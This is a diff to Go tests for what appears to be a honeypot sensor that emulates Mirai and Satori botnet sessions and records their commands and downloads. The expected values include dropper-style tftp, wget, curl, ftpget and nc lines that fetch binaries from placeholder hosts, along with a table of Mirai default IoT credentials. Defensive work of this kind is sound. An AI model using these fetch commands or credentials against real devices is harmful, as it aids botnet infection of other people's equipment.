@@ -186,7 +186,7 @@ func TestMiraiLoader(t *testing.T) {
 	// The download event follows the command.input of its line.
 	evs := h.pub.events()
 	for i, e := range evs {
-		if e.Kind == event.FileDownload && (evs[i-1].Kind != event.CommandInput || !strings.Contains(evs[i-1].Input, "wget")) {
+		if e.Kind == event.FileDownload && (evs[i-1].Kind != event.CommandInput || !strings.Contains(string(evs[i-1].Input), "wget")) {
 			t.Fatalf("file.download not right after its command: %+v", evs[i-1])
 		}
 	}
@@ -255,11 +255,12 @@ func TestSatori(t *testing.T) {
 	h.finish(t)
 	var got []string
 	for _, d := range h.pub.ofKind(event.FileDownload) {
-		got = append(got, d.Tool+" "+d.URL+" "+d.Filename)
+		got = append(got, string(d.Tool+" "+d.URL+" "+d.Filename))
 	}
 	want := []string{
 		"tftp tftp://198.51.100.20:69/okiru.mips /tmp/.okiru",
-		"wget http://198.51.100.20/bins/okiru.x86 ",
+		// sh -c runs its text: wget saw its -O.
+		"wget http://198.51.100.20/bins/okiru.x86 /tmp/.o",
 		"curl http://198.51.100.20/c.sh /tmp/x",
 		"ftpget ftp://anon:pw@198.51.100.21/pub/f.bin /var/f.bin",
 		"nc tcp://198.51.100.22:4444 /var/n.bin",
@@ -324,20 +325,6 @@ func TestMaxCommands(t *testing.T) {
 	}
 }
 
-func TestPublishRetries(t *testing.T) {
-	pub := &fakePub{failFirst: 2}
-	s, err := New(DefaultConfig(), Options{Publisher: pub, Sensor: "s"})
-	if err != nil {
-		t.Fatal(err)
-	}
-	h := startWith(t, s, pub)
-	h.cl.expect("login: ")
-	h.finish(t)
-	if k := pub.kinds(); len(k) != 2 || k[0] != event.SessionConnect {
-		t.Fatalf("kinds = %v, want connect (after retries) and closed", k)
-	}
-}
-
 func TestServerStopAndPanic(t *testing.T) {
 	pub := &fakePub{}
 	s, err := New(DefaultConfig(), Options{Publisher: pub, Sensor: "s"})
@@ -354,7 +341,7 @@ func TestServerStopAndPanic(t *testing.T) {
 		t.Fatal(err)
 	}
 	ctx, cancel := context.WithCancel(context.Background())
-	srv := &sensor.Server{Handler: s, Limits: sensor.DefaultLimits()}
+	srv := &sensor.Server{Handler: s, Limits: sensor.DefaultLimits(), Publisher: pub, Sensor: "s"}
 	served := make(chan error, 1)
 	go func() { served <- srv.Serve(ctx, ln) }()
 
@@ -435,5 +422,16 @@ func TestConfigValidate(t *testing.T) {
 	c.Login.Mode = LoginList
 	if err := c.Validate(); err == nil || !strings.Contains(err.Error(), "login.accept") {
 		t.Fatalf("list without accept: %v", err)
+	}
+}
+func TestCredentialTable(t *testing.T) {
+	cs := newCredSet(miraiCredentials())
+	for _, c := range []Credential{{"root", "xc3511"}, {"root", ""}, {"admin", ""}, {"Administrator", "meinsm"}, {"admin", "4321"}, {"mother", "fucker"}, {"root", "7ujMko0admin"}} {
+		if _, ok := cs[c]; !ok {
+			t.Errorf("%v missing", c)
+		}
+	}
+	if _, ok := cs[Credential{"root", "hunter2"}]; ok {
+		t.Error("root/hunter2 accepted")
 	}
 }
